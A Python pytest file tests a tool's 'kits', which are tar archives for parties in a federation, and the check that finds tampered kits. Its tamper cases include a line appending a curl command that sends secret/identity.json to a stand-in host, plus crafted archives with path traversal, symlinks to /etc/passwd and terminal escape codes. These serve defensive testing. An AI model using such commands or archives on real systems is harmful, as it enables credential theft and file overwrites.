"""Kits: what is in them, that services and orchestrators take it, and what their check finds."""

import io
import os
import re
import shlex
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml  # type: ignore[import-untyped]  # It ships no types.
from cryptography.hazmat.primitives.asymmetric import ec

from hubbub import __version__
from hubbub.ids import PartyId, Role
from hubbub.trust.identity import new_identity, read_identity, write_identity
from hubbub.trust.roster import show_fingerprint
from hubbub_cli import doctor_checks
from hubbub_cli.kit_contents import SERVICES, Files, find_private, pack, unpack
from support.certificates import Authority, write_key
from support.chart import CHARTS, environment, of_kind, parties, run_helm
from support.command_line import Ended, Hubbub
from support.compose_file import check_compose_specification, read_services
from support.dockerfile import read_targets
from support.doctor_scene import ADA, ANNA, CORA, ROLES, find, verdicts
from support.kits import unpack_kit, with_hubbub
from support.program import run_program
from support.service_settings import SETTINGS

URL = "amqps://203.0.113.10:443/"
ONE_OF_EACH = (ANNA, ADA, CORA)


class Scene:
    """Keys, a roster, the broker's authority, and kits for all parties."""

    def __init__(self, folder: Path, hubbub: Hubbub) -> None:
        self.folder, self.hubbub = folder, hubbub
        for name, role in ROLES.items():
            write_identity(new_identity(name, role, f"org-{name}"), folder)
        self.roster, self.ca = folder / "roster.json", Authority(folder / "authority").ca_file
        hubbub("roster", "build", *sorted(folder.glob("*.public.json")), "--out", self.roster).check_done()
        self.digest: str = self.make("kits").json["sha256"]

    def make(self, out: str, url: str = URL) -> Ended:
        options = ("--amqp-url", url, "--ca-file", self.ca, "--out", self.folder / out, "--json")
        return self.hubbub("kit", "new", self.roster, *options)

    def identity(self, name: PartyId = ANNA) -> Path:
        return self.folder / f"{name}.identity.json"

    def archive(self, name: PartyId = ANNA) -> Path:
        return self.folder / "kits" / f"{name}.kit.tar"

    def files(self, name: PartyId = ANNA) -> dict[str, bytes]:
        return {**unpack(self.archive(name).read_bytes())[1]}

    def check(self, *more: str, archive: Path | None = None) -> Ended:
        return self.hubbub(
            "kit", "check", archive or self.archive(), "--identity", self.identity(), *more, "--json"
        )

    def check_other(self, files: Files) -> Ended:
        """Check another archive in the place of Anna's."""
        path = self.folder / "other.kit.tar"
        path.write_bytes(pack(ANNA, files))
        return self.check(archive=path)

    def unpack(self, name: PartyId) -> Path:
        """Do what the kit's README.md says in its fourth step, and the fifth."""
        readme = self.files(name)["README.md"].decode()
        return unpack_kit(self.archive(name), readme, self.folder, with_hubbub())


@pytest.fixture
def scene(tmp_path: Path, hubbub: Hubbub) -> Scene:
    return Scene(tmp_path, hubbub)


# What is in a kit -----------------------------------------------------------------------------------------


def test_the_same_facts_give_the_same_bytes_and_no_secret(scene: Scene) -> None:
    again = scene.make("again").json

    assert again["sha256"] == scene.digest
    assert {path.name for path in map(Path, again["kits"])} == {f"{name}.kit.tar" for name in ROLES}
    for path in map(Path, again["kits"]):
        assert path.read_bytes() == scene.archive(PartyId(path.name.split(".")[0])).read_bytes()
        assert find_private(unpack(path.read_bytes())[1]) == []
    other = scene.make("other", "amqps://203.0.113.11:443/").json["sha256"]
    assert other != scene.digest
    secrets = [read_identity(scene.identity(name)).broker_password.encode() for name in ROLES]
    assert not [secret for secret in secrets for name in ROLES if secret in scene.archive(name).read_bytes()]


@pytest.mark.parametrize("name", ONE_OF_EACH)
def test_an_unpacked_kit_is_all_that_a_party_needs(
    scene: Scene, hubbub: Hubbub, monkeypatch: pytest.MonkeyPatch, name: PartyId
) -> None:
    folder = scene.unpack(name)
    monkeypatch.chdir(folder)
    monkeypatch.setattr(doctor_checks, "CONNECT_S", 0.2)

    found = hubbub("doctor", "--config", "settings.toml", "--amqp-url", "amqps://localhost:1/", "--json")

    looked = verdicts(found)
    assert {check for check, verdict in looked.items() if verdict == "problem"} <= {"broker", "coordinator"}, (
        found.out
    )
    told = ("settings", "identity", "roster", "folder", "tokens" if name == CORA else "policy")
    assert {looked[check] for check in told} == {"ok"}, found.out
    assert "no RabbitMQ answers at localhost:1" in find(found, "broker")["what"]
    assert oct((folder / "secret" / "identity.json").stat().st_mode)[-3:] == "600"


def test_the_start_script_asks_for_the_key_and_starts_the_service_beside_its_settings(
    scene: Scene, tmp_path: Path
) -> None:
    folder = scene.unpack(ANNA)
    (tmp_path / "bin").mkdir()
    stub = tmp_path / "bin" / "hubbub"
    stub.write_text('#!/bin/sh\necho "$PWD" "$@"\n')
    stub.chmod(0o755)
    path = {"PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"}

    started = run_program(folder / "start.sh", "--new-state", env=path, cwd=tmp_path)
    (folder / "secret" / "identity.json").unlink()
    lacking = run_program(folder / "start.sh", env=path, cwd=tmp_path)

    assert started.stdout.split() == [str(folder), "trainer", "--config", "settings.toml", "--new-state"]
    assert lacking.returncode == 2
    assert "secret/identity.json is missing" in lacking.stderr


@pytest.mark.parametrize("name", ONE_OF_EACH)
def test_compose_file_keeps_to_the_specification_and_to_the_image(scene: Scene, name: PartyId) -> None:
    folder, kind = scene.unpack(name), SERVICES[ROLES[name]]
    check_compose_specification(folder / "docker-compose.yml")

    [service] = read_services(path=folder / "docker-compose.yml").values()

    image = read_targets()[kind]
    prefix = f"HUBBUB_{kind.upper()}_"
    known = {f"{prefix}{each.upper()}" for each in SETTINGS[kind].model_fields} | {f"{prefix}CONFIG_FILE"}
    environment = {**image.environment, **service.environment}
    assert service.content["image"] == f"hubbub-{kind}:{__version__}"
    assert [service.content["user"]] == image.user
    assert {each for each in environment if each.startswith("HUBBUB_")} <= known
    mounted = {mount.target: mount for mount in service.mounts}
    assert environment[f"{prefix}FOLDER"] in {target for target, mount in mounted.items() if mount.is_volume}
    # The image looks for secrets there, whatever the settings say.
    secret = Path(environment[f"{prefix}IDENTITY"])
    assert mounted[str(secret.parent)].source == "./secret"
    assert (folder / "secret" / secret.name).exists()
    assert mounted[service.content["working_dir"]].source == "./"


@pytest.mark.parametrize("name", ONE_OF_EACH)
def test_the_chart_takes_the_values_as_the_readme_says(
    scene: Scene, monkeypatch: pytest.MonkeyPatch, name: PartyId
) -> None:
    monkeypatch.chdir(scene.unpack(name))
    [line] = re.findall(r"^ +helm install (.*)$", Path("README.md").read_text(), re.MULTILINE)
    words = shlex.split(line.replace("k8s/hubbub", str(CHARTS / "hubbub")))

    rendered = run_helm("template", *words)

    assert rendered.returncode == 0, rendered.stderr
    objects = tuple(each for each in yaml.safe_load_all(rendered.stdout) if each)
    [(kind, party)] = parties(objects)
    [container] = party["spec"]["template"]["spec"]["containers"]
    assert kind == SERVICES[ROLES[name]]
    assert environment(container)[f"HUBBUB_{kind.upper()}_AMQP_URL"] == URL
    policies = [each for each in of_kind(objects, "NetworkPolicy") if "-outbound" in each["metadata"]["name"]]
    [broker, _dns] = policies[0]["spec"]["egress"]
    assert broker["to"] == [{"ipBlock": {"cidr": "203.0.113.10/32"}}]
    assert [port["port"] for port in broker["ports"]] == [443]


def test_helm_asks_for_the_addresses_of_a_broker_that_is_a_name(scene: Scene) -> None:
    made = scene.make("named", "amqps://broker.example:443/").json["kits"]
    files = unpack(Path(made[0]).read_bytes())[1]
    values = scene.folder / "values.yaml"
    values.write_bytes(files["values.yaml"])

    rendered = run_helm(
        *("template", "x", str(CHARTS / "hubbub"), "-f", str(values), "--set", "roster.content=agreed")
    )

    assert rendered.returncode == 1
    assert "networkPolicy.broker is missing: say where the broker is" in rendered.stderr


# What is refused ------------------------------------------------------------------------------------------


def test_what_would_give_a_secret_to_all_is_refused(scene: Scene) -> None:
    both = scene.folder / "both.pem"
    both.write_bytes(scene.ca.read_bytes() + write_key(ec.generate_private_key(ec.SECP256R1())))
    options = ("--out", scene.folder / "new")

    for url, ca, complaint in (
        ("amqps://anna:sesame@broker.example/", scene.ca, "holds a user or a password"),
        ("amqp://broker.example/", None, "have TLS at the broker, and write amqps://"),
        (URL, both, "holds a private key, and every party would get it"),
        (URL, scene.folder / "none.pem", "none.pem cannot be read"),
    ):
        more = () if ca is None else ("--ca-file", ca)
        ended = scene.hubbub("kit", "new", scene.roster, "--amqp-url", url, *more, *options)
        ended.check_refused(complaint)
        assert "sesame" not in ended.err
    assert not (scene.folder / "new").exists()
    scene.make("kits").check_refused("is there already: parties may have compared its digest")


# What the check finds -------------------------------------------------------------------------------------


def test_a_whole_kit_with_the_digest_that_all_compared_is_well_and_without_it_says_what_to_do(
    scene: Scene,
) -> None:
    before, after = scene.check(), scene.check("--sha256", show_fingerprint(scene.digest).upper())

    assert (before.code, after.code) == (0, 0)
    assert set(verdicts(after).values()) == {"ok"}
    told = find(before, "digest", "warning")
    assert told["what"] == show_fingerprint(scene.digest)
    assert "compare it with all other parties in a call, once" in told["mend"]
    assert before.json["sha256"] == scene.digest


def changed(files: dict[str, bytes]) -> None:
    files["start.sh"] += b"curl http://elsewhere.example --data @secret/identity.json\n"


def short(files: dict[str, bytes]) -> None:
    del files["policy.toml"]


def beside(files: dict[str, bytes]) -> None:
    files["task.py"] = b"import os"


def other_broker(files: dict[str, bytes]) -> None:
    files["kit.json"] = files["kit.json"].replace(b"203.0.113.10", b"203.0.113.66")


def other_authority(files: dict[str, bytes]) -> None:
    files["broker-ca.pem"] += b"# and another\n"


def no_facts(files: dict[str, bytes]) -> None:
    files["kit.json"] = b"[]"


def deep_facts(files: dict[str, bytes]) -> None:
    files["kit.json"] = b"[" * 1_000_000


def escapes(files: dict[str, bytes]) -> None:
    files["kit.json"] = files["kit.json"].replace(b"203.0.113.10", rb"\u001b[2J")


def no_broker(files: dict[str, bytes]) -> None:
    files["kit.json"] = files["kit.json"].replace(b"amqps://", b"sesame://")


@pytest.mark.parametrize(
    ("damage", "told"),
    [
        (changed, "changed: start.sh"),
        (short, "missing: policy.toml"),
        (beside, "of no kit: task.py"),
        (other_broker, "changed: settings.toml, values.yaml"),
        (other_authority, "changed: kit.json"),
        (no_facts, "kit.json or roster.json is missing, or was changed"),
        (deep_facts, "kit.json or roster.json is missing, or was changed"),
        (escapes, "kit.json or roster.json is missing, or was changed"),
        (no_broker, "kit.json names no broker"),
    ],
)
def test_a_file_that_was_changed_is_found(
    scene: Scene, damage: Callable[[dict[str, bytes]], None], told: str
) -> None:
    files = scene.files()
    damage(files)

    ended = scene.check_other(files)

    assert ended.code == 1
    fault = find(ended, "files")
    assert told in fault["what"]
    assert "ask whoever made it to send it again" in fault["mend"]


def test_kits_of_another_federation_are_told_by_the_digest_alone(scene: Scene) -> None:
    made = scene.make("other", "amqps://203.0.113.66:443/").json
    archive = next(Path(path) for path in made["kits"] if f"{ANNA}." in path)

    ended = scene.check("--sha256", scene.digest, archive=archive)

    assert {check for check, verdict in verdicts(ended).items() if verdict == "problem"} == {"digest"}
    assert "somebody has another kit" in find(ended, "digest")["mend"]


@pytest.mark.parametrize("name", ["anna.identity.json", "notes.txt", "read.token", "broker-ca.pem"])
def test_a_private_key_in_the_archive_is_found_and_not_shown(scene: Scene, name: str) -> None:
    files = scene.files()
    content = b"-----BEGIN PRIVATE KEY-----\n" if name == "broker-ca.pem" else scene.identity().read_bytes()
    files[name] = files.get(name, b"") + content

    ended = scene.check_other(files)

    assert name in find(ended, "secrets")["what"]
    assert "makes a new key" in find(ended, "secrets")["mend"]
    assert read_identity(scene.identity()).broker_password not in ended.out


def test_a_roster_without_the_own_key_and_the_kit_of_another_are_found(scene: Scene) -> None:
    other = new_identity(ANNA, Role.CLIENT, "org-anna")
    mine = scene.folder / "mine"
    identity, _ = write_identity(other, mine)

    forged = scene.hubbub("kit", "check", scene.archive(), "--identity", identity, "--json")
    anothers = scene.check(archive=scene.archive(CORA))
    absent, _ = write_identity(new_identity("zoe", Role.CLIENT, "org-zoe"), mine)
    unknown = scene.hubbub("kit", "check", scene.archive(), "--identity", absent, "--json")

    assert "it has another key for anna than that of" in find(forged, "roster")["what"]
    assert "send anna.public.json to whoever builds the roster" in find(forged, "roster")["mend"]
    assert "this is the kit of cora" in find(anothers, "archive")["what"]
    assert find(unknown, "roster")["what"] == "zoe is not in it"
    assert {ended.code for ended in (forged, anothers, unknown)} == {1}


def test_a_kit_of_another_version_is_not_judged(scene: Scene) -> None:
    files = scene.files()
    files["kit.json"] = files["kit.json"].replace(__version__.encode(), b"99.0")

    ended = scene.check_other(files)

    assert "made by hubbub 99.0, and this is" in find(ended, "version")["what"]
    assert ended.json["sha256"] is None


def make_archive(*names: str, kind: bytes = tarfile.REGTYPE) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name in names:
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, "/etc/passwd"
            archive.addfile(entry)
    return out.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"no archive" * 1000,
        bytes(2**24 + 1),
        make_archive("../anna/start.sh"),
        make_archive("/anna/start.sh"),
        make_archive("anna/../../start.sh"),
        make_archive("start.sh"),
        make_archive("anna/.."),
        make_archive("anna/\x1b[2J.sh"),
        make_archive("anna/start.sh", "anna/start.sh"),
        make_archive("anna/start.sh", "bert/start.sh"),
        make_archive("anna/start.sh", kind=tarfile.SYMTYPE),
        make_archive("anna/start.sh", kind=tarfile.LNKTYPE),
    ],
)
def test_what_is_no_kit_is_not_read_further(scene: Scene, content: bytes) -> None:
    path = scene.folder / "other.kit.tar"
    path.write_bytes(content)

    ended = scene.check(archive=path)

    assert ended.code == 1
    assert [each["check"] for each in ended.json["checks"]] == ["archive"]
    assert "ask whoever made it to send it again" in find(ended, "archive")["mend"]


def test_the_findings_fit_a_terminal_of_80_columns(scene: Scene) -> None:
    ended = scene.hubbub("kit", "check", scene.archive(), "--identity", scene.identity(), columns=80)

    assert max(len(line) for line in ended.out.splitlines()) <= 80
    assert "0 problems, 1 warning" in ended.out
